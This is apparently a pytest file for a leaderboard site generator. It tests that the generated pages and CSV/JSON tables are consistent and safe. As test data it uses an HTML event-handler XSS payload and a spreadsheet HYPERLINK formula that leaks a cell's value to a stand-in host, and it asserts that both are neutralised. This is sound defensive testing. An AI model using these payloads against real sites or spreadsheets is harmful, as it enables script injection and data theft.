"""The site as files: what is on it, that it is the same each time, and that no entry stops it."""

import csv
import json
import math
import re
from collections import Counter

import pytest
from leaderboard_entries import sent_entry
from parsed_page import ParsedPage

from oochub.errors import OochubError
from oochub.leaderboard.site import Site

HOSTILE = "<img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    folder = tmp_path_factory.mktemp("board") / "results"
    for number, skill in enumerate((0.9, 1.3, 1.7, 2.1)):
        sent_entry(folder, skill, model=f"model {number}", who=HOSTILE)
    sent_entry(folder, 1.5, model=HOSTILE, track="standard")
    sent_entry(folder, 1.9, model="long" * 400, selection="oracle", supervision="groups")
    return folder


@pytest.mark.slow
def test_every_link_leads_to_a_file_of_the_site(results, tmp_path):
    out = Site.write(results, tmp_path / "site").folder
    pages = list(out.rglob("*.html"))
    assert len(pages) == 8
    for page in pages:
        parsed = ParsedPage(page.read_text("utf-8"))
        assert not parsed.unbalanced and parsed.headings.count(1) == 1
        ids = parsed.attributes("id")
        assert len(ids) == len(set(ids))
        for link in parsed.attributes("href"):
            if link.startswith("#"):
                assert link[1:] in ids
            elif not link.startswith("https:"):
                assert (page.parent / link).resolve().is_file(), (page, link)
        assert not re.search(r"<[^>]+\s(style|on[a-z]+)=", page.read_text("utf-8"))


@pytest.mark.slow
def test_the_tables_hold_what_the_pages_show(results, tmp_path):
    site = Site.write(results, tmp_path / "site")
    content = json.loads((site.folder / "leaderboard.json").read_text("utf-8"))
    lines = list(csv.DictReader((site.folder / "leaderboard.csv").read_text("utf-8").splitlines()))
    assert len(lines) == len(content["entries"]) == 6 and content["unread"] == {}
    for line, entry in zip(lines, content["entries"], strict=True):
        assert line["verified"] == str(entry["verified"]) == "True" and line["entry"] == entry["entry"]
        assert float(line["outside_value"]) == entry["outside"]["value"]
        assert (entry["rank_from"] is None) == (entry["selection"] == "oracle")
        assert (site.folder / entry["page"]).is_file()
    ranked = Counter(entry["track"] for entry in content["entries"] if entry["rank_from"] is not None)
    assert {each["track"]: each["pairs"] for each in content["tests"]} == {
        track: math.comb(count, 2) for track, count in ranked.items() if count > 1
    }
    assert {(each["benchmark"], each["config"], each["test"]) for each in content["tests"]} == {
        ("board_toy", "one", "paired DeLong")
    }


def test_formulas_are_text_in_the_table(tmp_path):
    """Each field that a sender writes. Seen: =HYPERLINK(...) as it was sent, which a spreadsheet runs."""
    said = {"model": '=HYPERLINK("http://a/?"&A1)', "who": "@SUM(1)", "external_data": "-1+1"}
    sent_entry(tmp_path / "results", **said)
    site = Site.write(tmp_path / "results", tmp_path / "site")
    (line,) = csv.DictReader((site.folder / "leaderboard.csv").read_text("utf-8").splitlines())
    assert {name: line[name] for name in said} == {name: f"'{text}" for name, text in said.items()}
    assert float(line["gap_value"]) < 0 and not any(text.startswith(("=", "@", "+")) for text in line.values())


def test_nothing_sent_is_a_site_too(tmp_path):
    (tmp_path / "results").mkdir()
    site = Site.write(tmp_path / "results", tmp_path / "site")
    assert "There are no entries yet" in (site.folder / "index.html").read_text("utf-8")


@pytest.mark.parametrize(
    ("results", "out", "words"), [("absent", "site", "folder not found"), (".", "site", "cannot be inside")]
)
def test_what_cannot_be_made_is_said(tmp_path, results, out, words):
    with pytest.raises(OochubError, match=words):
        Site.write(tmp_path / results, tmp_path / out)
    assert not (tmp_path / "site").exists()
